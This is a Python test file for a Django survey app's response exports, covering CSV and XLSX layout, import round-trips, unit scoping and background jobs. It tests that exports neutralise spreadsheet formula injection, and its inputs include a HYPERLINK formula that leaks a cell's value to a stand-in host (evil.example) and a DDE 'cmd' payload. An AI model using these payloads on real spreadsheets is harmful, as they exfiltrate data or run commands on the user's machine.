"""Exports of the response list: what a person reads in the file, what the import reads back,
formula injection, background exports and their scope."""

import csv
import io
import zipfile
from datetime import datetime, timedelta

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.test import override_settings
from django.utils import timezone
from openpyxl import load_workbook

from hailong.core.jobs import run_pending_jobs
from hailong.core.periods import LOCAL_TZ
from hailong.surveys.file_import import import_check, import_run
from hailong.surveys.files import responses_out as export_module
from hailong.surveys.files.responses_out import export_plan, export_rows
from hailong.surveys.models import Answer, Item, Response, ResponseExport
from hailong.surveys.schema import schema_for
from hailong.surveys.selectors.responses import responses_visible_to
from hailong.surveys.services.exports import response_exports_purge
from hailong.surveys.services.responses import Submission, responses_delete, responses_store

CRITERIA = [
    f"{e}{n}"
    for e, k in (("TC", 4), ("TT", 4), ("CC", 5), ("KQ", 3), ("PA", 3))
    for n in range(1, k + 1)
]
CODES = ["id", "submitted_at", "unit", "service", "channel", "dossier_code"]
CODES += [*CRITERIA, "HL", "MM", "YK", "TUOI", "GIOI", "NGHE", "comment"]
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def store(org, sipas, *, unit=None, comment="", yk="", when=None, dossier="") -> Response:
    answers = {code: "4" for code in CRITERIA}
    answers.update({"PA3": "0", "HL": "5", "MM": ["CC", "TT"], "TUOI": "2"})
    if yk:
        answers["YK"] = yk
    result = responses_store(
        [
            Submission(
                version=sipas,
                unit=unit or org.unit_a,
                service=org.service_a,
                channel="paper",
                answers=answers,
                comment=comment,
                dossier_code=dossier,
                submitted_at=when or datetime(2026, 3, 10, 8, 30, tzinfo=LOCAL_TZ),
            )
        ]
    )
    assert result.stored_count == 1, result.refused
    return Response.objects.latest("pk")


def csv_export(client, query="") -> list[list[str]]:
    response = client.get(f"/surveys/responses/export/{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = b"".join(response.streaming_content)
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_export(client, query="?format=xlsx") -> bytes:
    response = client.get(f"/surveys/responses/export/{query}")
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content)


def labels(sipas) -> list[str]:
    texts = list(Item.objects.filter(version=sipas).order_by("order").values_list("text_vi"))
    return [
        "# Mã phiếu",
        "Thời điểm trả lời (giờ Việt Nam)",
        "Mã đơn vị",
        "Mã thủ tục",
        "Kênh",
        "Mã hồ sơ",
        *(t for (t,) in texts),
        "Ý kiến",
    ]


def test_the_csv_export_has_codes_then_vietnamese_labels_then_one_row_per_response(
    client_for, secretary, org, sipas
):
    first = store(org, sipas, comment="Tốt", dossier="HS-01")
    second = store(
        org, sipas, unit=org.unit_a1, when=datetime(2026, 3, 11, 14, 5, 9, tzinfo=LOCAL_TZ)
    )
    rows = csv_export(client_for(secretary))
    scores = ["4"] * 18 + ["0", "5", "CC;TT", "", "2", "", ""]
    assert rows == [
        CODES,
        labels(sipas),
        [
            f"hl-{first.pk}",
            "2026-03-10 08:30:00",
            "UA",
            "1.001193",
            "paper",
            "HS-01",
            *scores,
            "Tốt",
        ],
        [f"hl-{second.pk}", "2026-03-11 14:05:09", "UA1", "1.001193", "paper", "", *scores, ""],
    ]


def test_the_csv_export_neutralises_text_a_spreadsheet_would_run_as_a_formula(
    client_for, secretary, org, sipas
):
    comments = [ATTACK, "+84 912 345 678", "-2 điểm vì chờ lâu", "@SUM(A1:A9)", "Bình thường"]
    for comment in comments:
        store(org, sipas, comment=comment, yk="=cmd|' /C calc'!A0")
    rows = csv_export(client_for(secretary))
    assert [row[-1] for row in rows[2:]] == [
        "'" + ATTACK,
        "'+84 912 345 678",
        "'-2 điểm vì chờ lâu",
        "'@SUM(A1:A9)",
        "Bình thường",
    ]
    assert {row[CODES.index("YK")] for row in rows[2:]} == {"'=cmd|' /C calc'!A0"}


def test_the_xlsx_export_writes_numbers_times_and_text_as_such_never_a_formula(
    client_for, secretary, org, sipas
):
    response = store(org, sipas, comment=ATTACK, yk="-1", dossier="HS-01")
    data = xlsx_export(client_for(secretary))
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Phiếu trả lời", "Chú giải"]
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == tuple(CODES)
    assert rows[1] == tuple(labels(sipas))
    assert rows[2] == (
        f"hl-{response.pk}",
        datetime(2026, 3, 10, 8, 30),
        "UA",
        "1.001193",
        "paper",
        "HS-01",
        *([4] * 18),
        0,
        5,
        "CC;TT",
        "-1",
        "2",
        None,
        None,
        ATTACK,
    )
    comment = sheet.cell(row=3, column=len(CODES))
    assert (comment.value, comment.data_type) == (ATTACK, "s")
    assert sheet.cell(row=3, column=2).number_format == "dd/mm/yyyy hh:mm:ss"
    assert sheet.freeze_panes == "A3"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_the_xlsx_legend_says_what_every_code_means(client_for, secretary, org, sipas):
    store(org, sipas)
    book = load_workbook(io.BytesIO(xlsx_export(client_for(secretary))))
    legend = {row[0]: row[1:] for row in book["Chú giải"].iter_rows(values_only=True) if row[0]}
    scale = (
        "1 = Rất không hài lòng; 2 = Không hài lòng; 3 = Bình thường; 4 = Hài lòng; "
        "5 = Rất hài lòng"
    )
    tc1 = Item.objects.get(version=sipas, code="TC1").text_vi
    assert legend["Cột"] == ("Nội dung", "Giá trị")
    assert legend["TC1"] == (tc1, scale + "; 0 = Không áp dụng")
    assert legend["HL"][1] == scale
    assert legend["MM"][1] == (
        "TC = Tiếp cận dịch vụ hành chính công; TT = Thủ tục hành chính; "
        "CC = Công chức trực tiếp giải quyết công việc; "
        "KQ = Kết quả cung ứng dịch vụ hành chính công; "
        "PA = Tiếp nhận, giải quyết góp ý, phản ánh, kiến nghị; KHAC = Nội dung khác "
        "(nhiều mã cách nhau bởi dấu ;)"
    )
    assert legend["YK"][1] == "trả lời tự do"
    assert legend["UA"] == ("Phòng Tư pháp A", None)
    assert legend["1.001193"] == ("Đăng ký khai sinh", None)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_system_gives_the_same_responses(
    client_for, secretary, org, sipas, file_format
):
    store(org, sipas, comment=ATTACK, yk="@đầu dòng", dossier="HS-01")
    store(org, sipas, comment="-- chờ lâu", yk="'=đã có dấu nháy", unit=org.unit_a1)
    client = client_for(secretary)
    if file_format == "csv":
        data = b"".join(client.get("/surveys/responses/export/").streaming_content)
    else:
        data = xlsx_export(client)

    def content():
        return (
            sorted(
                Response.objects.values_list(
                    "unit__code", "service__code", "dossier_code", "comment", "submitted_at"
                )
            ),
            sorted(
                Answer.objects.values_list(
                    "item__code", "value", "option__code", "not_applicable", "text"
                )
            ),
        )

    before = content()
    responses_delete(responses=Response.objects.all(), actor=None, reason="another system")
    report = import_check(
        data=data, filename=f"export.{file_format}", version=sipas, campaign=None, actor=None
    )
    assert (report.file_error, report.good, report.total) == ("", 2, 2)
    stored = import_run(
        data=data, filename=f"export.{file_format}", version=sipas, campaign=None, actor=None
    )
    assert stored.imported == 2
    assert content() == before


def test_an_officer_exports_only_the_responses_of_their_units(client_for, officer_b, org, sipas):
    store(org, sipas)
    own = store(org, sipas, unit=org.unit_b)
    rows = csv_export(client_for(officer_b))
    assert [row[0] for row in rows[2:]] == [f"hl-{own.pk}"]


def test_the_xlsx_export_sends_its_first_bytes_before_reading_any_response(
    client_for, secretary, org, sipas, django_assert_num_queries
):
    store(org, sipas)
    response = client_for(secretary).get("/surveys/responses/export/?format=xlsx")
    with django_assert_num_queries(0):
        first = next(response.streaming_content)
    assert first[:4] == b"PK\x03\x04"
    # Read to the end rather than response.close(), whose request_finished signal would close
    # the test's PostgreSQL connection.
    assert b"".join(response.streaming_content)


def test_the_rows_cost_two_queries_per_chunk_whatever_the_number_of_answers(
    org, sipas, secretary, django_assert_num_queries, monkeypatch
):
    for _ in range(5):
        store(org, sipas)
    schema_for(sipas)  # the published schema is cached, as it is after the first export
    monkeypatch.setattr(export_module, "CHUNK", 2)
    responses = responses_visible_to(secretary)
    # The plan: last id, versions (2), units, procedures, count; then 3 chunks and an empty one.
    with django_assert_num_queries(6 + 3 * 2 + 1):
        rows = list(export_rows(export_plan(responses), responses, times_as_text=True))
    assert len(rows) == 5


@override_settings(HAILONG_EXPORT_BACKGROUND_ROWS=1)
def test_a_large_export_is_prepared_in_the_background_for_the_person_who_asked(
    client_for, secretary, officer_a, org, sipas
):
    first, second = store(org, sipas), store(org, sipas, unit=org.unit_a1)
    store(org, sipas, unit=org.unit_b)
    client = client_for(secretary)
    query = f"?unit={org.unit_a.pk}"
    page = client.get(f"/surveys/responses/export/{query}&format=xlsx")
    assert page.status_code == 200 and not page.streaming
    assert "2 phiếu là một lần xuất lớn." in page.content.decode()
    started = client.post(f"/surveys/exports/{query}", {"file_format": "xlsx"})
    export = ResponseExport.objects.get()
    assert started.status_code == 302 and started["Location"] == f"/surveys/exports/{export.pk}/"
    assert (export.query, export.file_format, export.created_by) == (
        {"unit": str(org.unit_a.pk)},
        "xlsx",
        secretary,
    )
    assert "Đang chuẩn bị tệp…" in client.get(started["Location"]).content.decode()
    run_pending_jobs()
    detail = client.get(started["Location"]).content.decode()
    assert "Đã xuất 2 phiếu." in detail and 'data-testid="export-download"' in detail
    download = client.get(f"/surveys/exports/{export.pk}/download/")
    assert download["Content-Disposition"] == f'attachment; filename="{export.filename}"'
    book = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    ids = [row[0] for row in book.worksheets[0].iter_rows(min_row=3, values_only=True)]
    assert ids == [f"hl-{first.pk}", f"hl-{second.pk}"]
    assert f"/surveys/exports/{export.pk}/" in client.get("/surveys/exports/").content.decode()
    # Nobody else sees it, not even someone of the same unit.
    client.force_login(officer_a)
    assert client.get(f"/surveys/exports/{export.pk}/").status_code == 404
    assert client.get(f"/surveys/exports/{export.pk}/download/").status_code == 404
    assert f"/surveys/exports/{export.pk}/" not in client.get("/surveys/exports/").content.decode()


@override_settings(HAILONG_EXPORT_BACKGROUND_ROWS=1)
def test_a_background_csv_export_keeps_the_formula_guard(client_for, secretary, org, sipas):
    store(org, sipas, comment=ATTACK)
    store(org, sipas)
    client = client_for(secretary)
    client.post("/surveys/exports/", {"file_format": "csv"})
    run_pending_jobs()
    export = ResponseExport.objects.get()
    rows = list(csv.reader(io.StringIO(export.file.read().decode("utf-8-sig"))))
    assert [row[-1] for row in rows[2:]] == ["'" + ATTACK, ""]
    assert export.rows == 2


def test_export_files_older_than_the_keeping_time_are_deleted(org, secretary):
    old = ResponseExport.objects.create(file_format="csv", filename="a.csv", created_by=secretary)
    old.file.save("a.csv", ContentFile(b"id\n"))
    recent = ResponseExport.objects.create(
        file_format="csv", filename="b.csv", created_by=secretary
    )
    ResponseExport.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - timedelta(days=7, minutes=1)
    )
    assert response_exports_purge() == 1
    assert list(ResponseExport.objects.all()) == [recent]
    assert not default_storage.exists(old.file.name)
